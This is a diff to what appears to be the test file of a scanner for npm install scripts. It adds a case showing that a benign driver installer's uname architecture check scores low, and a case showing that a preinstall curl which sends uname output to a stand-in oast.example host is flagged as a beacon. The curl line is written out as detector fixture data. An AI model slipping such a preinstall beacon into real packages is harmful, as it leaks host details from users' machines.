@@ -332,6 +332,30 @@ https.get(url, { headers }, (res) => res.pipe(fs.createWriteStream(path.join(__d
     expect(npm.ids).toContain('exfiltration');
   });
 
+  it('a chromedriver-like installer asking uname for the architecture before its download stays low', () => {
+    const r = run(fixture('driver-bin', { scripts: { install: 'node install.js' } }, {
+      'install.js': `const child_process = require('child_process');
+const https = require('https');
+const fs = require('fs');
+function isRosetta() {
+  const arch = child_process.spawnSync('uname', ['-m']).stdout.toString().trim();
+  return arch === 'x86_64' && child_process.spawnSync('sysctl', ['-in', 'sysctl.proc_translated']).stdout.toString().trim() === '1';
+}
+const platform = process.arch === 'arm64' || isRosetta() ? 'mac-arm64' : 'linux64';
+https.get('https://storage.example.com/driver/' + platform + '/driver.zip', (res) => res.pipe(fs.createWriteStream('driver.zip')));
+`,
+    }));
+    expect(r.ids).not.toContain('hostBeacon');
+    expect(['none', 'low']).toContain(r.level);
+  });
+
+  it('uname -a or -n (the machine name) sent out at install is still a beacon', () => {
+    for (const flags of ['-a', '-n', '-sn']) {
+      const r = run(fixture('probe', { scripts: { preinstall: `curl -s "https://x.oast.example/?h=$(uname ${flags})"` } }));
+      expect(r.ids, flags).toContain('hostBeacon');
+    }
+  });
+
   it.each(legitimate)('%s', (_label, f) => {
     const r = run(f);
     expect(r.score, JSON.stringify(r.findings, null, 1)).toBeLessThan(10);
